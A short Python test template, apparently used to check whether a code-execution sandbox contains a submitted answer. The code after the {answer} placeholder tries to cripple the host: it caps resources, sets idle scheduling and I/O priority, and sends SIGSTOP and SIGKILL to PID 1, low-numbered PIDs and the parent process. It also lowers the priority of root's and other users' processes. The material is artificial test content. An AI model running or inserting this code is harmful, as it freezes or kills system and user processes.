# Tries: it sets limits, priorities and processors of every process that it can name, and of all of a user
# Cell: bce
# Loses: nothing
# State: flagged
# ruff: noqa
import ctypes
import os
import resource
import signal

{answer}


def attempt(what, *arguments):
    try:
        what(*arguments)
    except OSError:
        pass


_reached = {*range(1, 60), os.getppid()} - {0, os.getpid()}
for _pid in _reached:
    attempt(resource.prlimit, _pid, resource.RLIMIT_NOFILE, (20, 20))
    attempt(resource.prlimit, _pid, resource.RLIMIT_NPROC, (1, 1))
    attempt(resource.prlimit, _pid, resource.RLIMIT_CPU, (1, 1))
    attempt(os.sched_setaffinity, _pid, {0})
    attempt(os.sched_setscheduler, _pid, os.SCHED_IDLE, os.sched_param(0))
    attempt(os.setpriority, os.PRIO_PROCESS, _pid, 19)
    ctypes.CDLL(None).syscall(251, 1, _pid, 3 << 13)
    for _signal in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGKILL, signal.SIGCHLD):
        attempt(os.kill, _pid, _signal)
for _user in (0, 1000, 65534, *range(65520, 65534)):
    attempt(os.setpriority, os.PRIO_USER, _user, 19)
